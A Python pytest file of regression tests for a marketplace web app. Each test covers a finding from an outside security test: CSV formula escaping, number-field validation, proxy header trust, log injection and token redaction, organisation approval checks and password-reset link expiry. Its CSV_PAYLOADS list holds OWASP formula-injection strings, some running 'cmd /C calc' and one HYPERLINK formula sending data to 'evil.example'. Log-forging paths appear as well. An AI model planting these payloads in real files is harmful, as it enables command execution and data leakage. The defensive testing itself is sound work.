"""One regression test per finding of the outside security test (issue 19) that is not covered beside
its feature: each failed before its fix."""

from __future__ import annotations

import json
import os
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from marketplace.core.forms import Form, WholeNumberField
from marketplace.core.logs import loggable_path
from marketplace.opportunities.forms import AmountField
from marketplace.reports.tables import spreadsheet_safe

ROOT = Path(__file__).resolve().parents[2]

# OWASP's CSV injection payloads, and the two the outside test used to get past the first-word check.
CSV_PAYLOADS = [
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "-1 +cmd|' /C calc'!A0", '+1 =HYPERLINK("x")',
    "-2+3+cmd|' /C calc'!A0", "=1+2", "\t=1+2", "\r=1+2", "@A1", "-1-1", "+1 2", "-3,000 =1", "=-1",
]


@pytest.mark.parametrize("payload", CSV_PAYLOADS)
def test_a_csv_cell_that_could_be_a_formula_is_prefixed(payload):
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-1", "+2", "-1,234.50", "-12%", "0", "12", "3.2 days", "Preston"])
def test_plain_numbers_and_ordinary_text_are_left_alone(number):
    assert spreadsheet_safe(number) == number


@given(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), st.text(max_size=30))
def test_no_cell_starting_like_a_formula_reaches_the_csv_unprefixed(start, rest):
    cell = spreadsheet_safe(start + rest)
    assert cell.startswith("'") or (start in "+-" and (rest.replace(",", "").replace(".", "").rstrip("%")
                                                       .isascii() and rest[:1].isdigit()))


class NumberForm(Form):
    miles = WholeNumberField("Miles", message="Enter the miles as a whole number, like 12")
    pay = AmountField("Pay", message="Enter the pay as an amount, like 12.71")


@pytest.mark.parametrize("typed", ["²", "٣", "３", "1²", "١٢", "¹0", "1_000", " 1 2 "])
def test_a_number_field_refuses_what_is_not_an_ascii_number_with_its_own_message(app, typed):
    with app.test_request_context(method="POST", data={"miles": typed, "pay": typed}):
        form = NumberForm(meta={"csrf": False})
        assert not form.validate()
        assert form.errors == {"miles": ["Enter the miles as a whole number, like 12"],
                               "pay": ["Enter the pay as an amount, like 12.71"]}


def test_ascii_numbers_still_work(app):
    with app.test_request_context(method="POST", data={"miles": "1,200", "pay": "£12.71"}):
        form = NumberForm(meta={"csrf": False})
        assert form.validate(), form.errors
        assert form.miles.data == 1200 and str(form.pay.data) == "12.71"


def gunicorn_settings(**env) -> dict:
    namespace: dict = {}
    saved = dict(os.environ)
    os.environ.update(env)
    for name in ("TRUSTED_PROXY_COUNT", "FORWARDED_ALLOW_IPS"):
        if name not in env:
            os.environ.pop(name, None)
    try:
        exec(compile((ROOT / "gunicorn.conf.py").read_text(), "gunicorn.conf.py", "exec"), namespace)  # noqa: S102
    finally:
        os.environ.clear()
        os.environ.update(saved)
    return namespace


def test_gunicorn_trusts_forwarded_headers_only_when_a_proxy_is_configured():
    assert gunicorn_settings()["forwarded_allow_ips"] == ""
    assert gunicorn_settings(TRUSTED_PROXY_COUNT="1")["forwarded_allow_ips"] == "127.0.0.1"


HOSTILE_PATHS = ['/a\\"b', '/x\n{"level": "INFO", "path": "/forged"}', "/\u2028\x00\x1b[31m", '/%s%(h)s"}']


def test_the_access_log_is_json_that_no_path_can_break_or_forge(capsys):
    import logging.config

    settings = gunicorn_settings()
    access = logging.getLogger("gunicorn.access")
    saved = (access.handlers[:], access.propagate, logging.getLogger().handlers[:],
             logging.getLogger("gunicorn.error").handlers[:])
    try:
        logging.config.dictConfig(settings["logconfig_dict"])
        logger_class = settings["JsonAccessLogger"]
        logger = logger_class.__new__(logger_class)  # gunicorn's own setup is not what is tested here
        logger.access_log = access
        token = "Z" * 10 + "abc-_123" * 5
        for path in [*HOSTILE_PATHS, f"/password-reset/{token}", f"/invitation/{token}/"]:
            response = SimpleNamespace(status="200 OK", headers=[("X-Request-ID", "req-1")], sent=10)
            logger.access(response, None, {"REQUEST_METHOD": "GET", "PATH_INFO": path, "REMOTE_ADDR": "10.0.0.1"},
                          timedelta(milliseconds=12))
    finally:
        (access.handlers[:], access.propagate, logging.getLogger().handlers[:],
         logging.getLogger("gunicorn.error").handlers[:]) = saved
    lines = capsys.readouterr().out.strip().splitlines()
    assert len(lines) == len(HOSTILE_PATHS) + 2, lines
    entries = [json.loads(line) for line in lines]
    assert [entry["path"] for entry in entries[:len(HOSTILE_PATHS)]] == HOSTILE_PATHS
    assert entries[-2]["path"] == "/password-reset/[token]" and entries[-1]["path"] == "/invitation/[token]/"
    assert all(entry["status"] == 200 and entry["request_id"] == "req-1" for entry in entries)
    assert token not in "\n".join(lines)


def test_token_segments_are_kept_out_of_logs_but_ordinary_paths_are_not():
    assert loggable_path("/opportunities/12/edit") == "/opportunities/12/edit"
    assert loggable_path("/payback/confirm/" + "a1B-" * 11) == "/payback/confirm/[token]"


# Finding 8 (who gets in): before, an approval asked for nothing, so any admin's click opened people's
# records to an organisation nobody had checked.

@settings(max_examples=100, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(register=st.sampled_from(["companies_house", "charity_england_wales", "charity_scotland",
                                 "charity_northern_ireland", "public_body", "none", ""]),
       kind=st.sampled_from(["employer", "social_enterprise", "provider", "mentoring"]),
       register_checked=st.booleans(), safeguarding_checked=st.booleans(),
       note=st.sampled_from(["", "   ", "Rang them", "x" * 1001]))
def test_no_organisation_is_approved_unless_what_was_checked_is_recorded(
        app, register, kind, register_checked, safeguarding_checked, note):
    from marketplace.accounts import operations
    from marketplace.core.exceptions import Refused
    from marketplace.extensions import db
    from tests.factories import OrganisationFactory, UserFactory

    organisation = OrganisationFactory(status="pending", kind=kind, register=register, register_number="01234567",
                                       safeguarding_lead_name="Ruth Okafor", safeguarding_lead_email="r@x.example")
    admin = UserFactory(role="admin")
    needs_lead = kind in ("provider", "mentoring")
    needs_note = register not in ("companies_house", "charity_england_wales", "charity_scotland",
                                  "charity_northern_ireland")
    allowed = (register_checked and (safeguarding_checked or not needs_lead)
               and (note.strip() or not needs_note) and len(note.strip()) <= 1000)
    try:
        operations.approve_organisation(organisation.id, admin, operations.ApprovalChecks(
            register_checked=register_checked, safeguarding_checked=safeguarding_checked, note=note))
        approved = True
    except Refused:
        approved = False
    try:
        assert approved == bool(allowed)
        if approved:
            change = organisation.history[-1]
            assert change.to_status == "approved" and len(change.checks) == (2 if needs_lead else 1)
            assert change.note == note.strip()
        else:
            assert organisation.status == "pending" and not organisation.history
    finally:
        db.session.rollback()


# Finding 2: a used reset link left the others working, and a link from before a password change still
# worked after it. Over any order of asking for links, changing the password and using links, only the
# newest link asked for since the password last changed works, and only once.

@settings(max_examples=60, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(steps=st.lists(st.one_of(st.just(("ask",)), st.just(("change",)),
                                st.tuples(st.just("use"), st.integers(min_value=0, max_value=5))),
                      min_size=1, max_size=8))
def test_only_the_newest_reset_link_since_the_last_password_change_works_once(app, steps):
    import re

    from sqlalchemy import select

    from marketplace.accounts import operations
    from marketplace.accounts.operations import RESET_EMAILS_PER_HOUR
    from marketplace.core.exceptions import Refused
    from marketplace.core.models import OutboxMessage
    from marketplace.extensions import db
    from tests.factories import UserFactory
    from tests.helpers import TEST_PASSWORD

    with app.test_request_context():
        user = UserFactory(role="employer")
        password, links, asked = TEST_PASSWORD, [], 0
        live = None  # the one link that should work, if any
        try:
            for number, step in enumerate(steps):
                new_password = f"violet-harbour-engine-{number}{len(steps)}q"
                if step[0] == "ask":
                    asked += 1
                    operations.request_password_reset(user.email)
                    if asked <= RESET_EMAILS_PER_HOUR:  # beyond that no email goes, and nothing changes
                        body = db.session.scalars(select(OutboxMessage.body).order_by(OutboxMessage.id.desc())).first()
                        links.append(re.search(r"/password-reset/([A-Za-z0-9_-]+)", body).group(1))
                        live = links[-1]
                elif step[0] == "change":
                    operations.change_password(user, password, new_password)
                    password, live = new_password, None
                elif links:
                    token = links[step[1] % len(links)]
                    try:
                        operations.reset_password(token, new_password)
                        worked = True
                    except Refused:
                        worked = False
                    assert worked == (token == live), (steps, number)
                    if worked:
                        password, live = new_password, None
                db.session.flush()
        finally:
            db.session.rollback()
